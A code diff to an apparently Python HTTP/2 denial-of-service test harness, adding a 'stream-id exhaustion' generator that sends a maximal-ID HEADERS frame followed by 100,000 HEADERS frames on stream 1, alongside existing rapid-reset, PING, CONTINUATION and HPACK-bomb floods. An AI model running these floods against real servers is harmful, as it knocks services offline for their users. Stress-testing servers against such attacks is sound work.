@@ -81,6 +81,13 @@ def hpack_bomb():
         yield frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, request_block() + b"\xbe" * 16000)
 
 
+def stream_id_exhaustion():
+    last = 2**31 - 1
+    yield frame(HEADERS, END_HEADERS | END_STREAM, last, request_block())
+    for _ in range(100000):
+        yield frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block())
+
+
 FLOODS = {
     "rapid reset": rapid_reset,
     "PING flood": lambda: (frame(PING, 0, 0, b"%08d" % i) for i in range(100000)),
@@ -92,6 +99,7 @@ FLOODS = {
     "empty DATA flood": empty_data,
     "CONTINUATION flood": continuation,
     "HPACK bomb": hpack_bomb,
+    "stream-id exhaustion": stream_id_exhaustion,
 }
 
 
